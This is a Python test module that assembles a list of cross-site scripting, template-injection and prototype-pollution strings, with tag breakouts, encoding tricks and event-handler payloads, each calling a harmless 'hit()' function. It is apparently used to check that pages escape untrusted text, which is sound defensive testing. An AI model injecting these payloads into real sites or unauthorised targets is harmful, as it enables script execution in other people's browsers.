"""Texts that would run if a page took them for markup or code: each breaks out of some place and calls `hit()`."""

from __future__ import annotations

from itertools import product

from sample_network import PAYLOADS

# What closes the place in which a careless page would put a text, and what then runs.
OPENINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</select>", "</svg>")
RUNNING = (
    "<img src=x onerror=hit()>", "<script>hit()</script>", "<svg onload=hit()>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<details open ontoggle=hit()>x</details>",
    "<input autofocus onfocus=hit()>", "<video><source onerror=hit()></video>", "<audio src=x onerror=hit()></audio>",
    "<body onload=hit()>", "<object data='javascript:hit()'></object>", "<embed src='javascript:hit()'>",
    "<math><mtext><style><img src=x onerror=hit()></style></mtext></math>", "<select autofocus onfocus=hit()><option>x",
)  # fmt: skip
CASES = (
    "<IMG SRC=x ONERROR=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img\tsrc=x\tonerror=hit()>",
    "<img src=x onerror=\u0060hit()\u0060>",
    "<ScRiPt>hit()</sCrIpT>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit()//<</script>",
    "<script/src=data:,hit()></script>",
    "＜script＞hit()＜/script＞",
    "\ufeff<script>hit()</script>",
    "<script\x0c>hit()</script>",
    "%3Cscript%3Ehit()%3C/script%3E",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&#x3c;img src=x onerror=hit()&#x3e;",
    '"onmouseover="hit()',
    "'onfocus='hit()' autofocus='",
    "x onerror=hit()",
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    "';hit();'",
    '";hit();"',
    "\\';hit();//",
    "`;hit();`",
    "${hit()}",
    "#{hit()}",
    "{{constructor.constructor('hit()')()}}",
    "<%= hit() %>",
    "<?php hit(); ?>",
    "*/hit();/*",
    "//-->\nhit()",
    "\u2028hit()",
    "\u2029hit()//",
    "</script\n><script>hit()</script>",
    "<!--><script>hit()</script>",
    "<!--[if gte IE 4]><script>hit()</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>",
    "<link rel=stylesheet href='data:text/css,*{background:url(x)}'>",
    "<style>*{background:url('javascript:hit()')}</style>",
    "<a href='javascript:hit()' autofocus onfocus=hit()>x</a>",
    "<form action='javascript:hit()'><button autofocus>x</button></form>",
    "<base href='javascript:hit()//'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "constructor",
    "__proto__",
    "toString",
    "<marquee onstart=hit()>x</marquee>",
    "<xmp><img src=x onerror=hit()></xmp>",
    "<plaintext><img src=x onerror=hit()>",
    "\u202e<script>hit()</script>",
)


def texts() -> tuple[str, ...]:
    """All of them, each once."""
    broken_out = (opening + running for opening, running in product(OPENINGS, RUNNING))
    return tuple(dict.fromkeys((*PAYLOADS, *broken_out, *CASES)))
